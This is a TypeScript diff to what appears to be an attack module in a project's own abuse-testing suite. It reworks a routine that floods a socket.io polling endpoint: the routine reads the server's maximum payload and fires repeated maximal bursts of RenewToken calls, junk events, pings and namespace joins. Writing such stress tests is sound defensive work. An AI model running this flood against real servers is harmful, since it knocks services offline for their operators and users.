@@ -4,7 +4,6 @@ import type { Attack } from '../attack.ts'
 import type { Outsider, Person } from '../outsider.ts'
 
 const calls = 3_000
-const payloadMax = 95_000
 const payloads = 10
 
 /** Thousands of calls in one breath, by one socket and by one request of one that polls. */
@@ -24,12 +23,14 @@ export const attack: Attack = {
 }
 
 async function poll(person: Person) {
-  const { sid } = JSON.parse((await ask(person, '')).slice(1))
-  await send(person, sid, `40${notificationHub.namespace},${JSON.stringify({ token: person.token })}`)
-  await ask(person, sid)
-  const call = `42${notificationHub.namespace},["RenewToken"]`
-  const packets = Array(Math.floor(payloadMax / (call.length + 1))).fill(call)
-  for (let nth = 0; nth < payloads; nth++) await send(person, sid, packets.join('\x1e'))
+  const packets = [`42${notificationHub.namespace},["RenewToken"]`, '42["a"]', '3', `40${chatHub.namespace},`]
+  for (const packet of packets) {
+    const { sid, maxPayload } = JSON.parse((await ask(person, '')).slice(1))
+    await send(person, sid, `40${notificationHub.namespace},${JSON.stringify({ token: person.token })}`)
+    await ask(person, sid)
+    const burst = Array(Math.floor(maxPayload / (packet.length + 1))).fill(packet)
+    for (let nth = 0; nth < payloads; nth++) await send(person, sid, burst.join('\x1e'))
+  }
 }
 
 const address = ({ url }: Outsider, sid: string) => `${url}/socket.io/?EIO=4&transport=polling${sid && `&sid=${sid}`}`
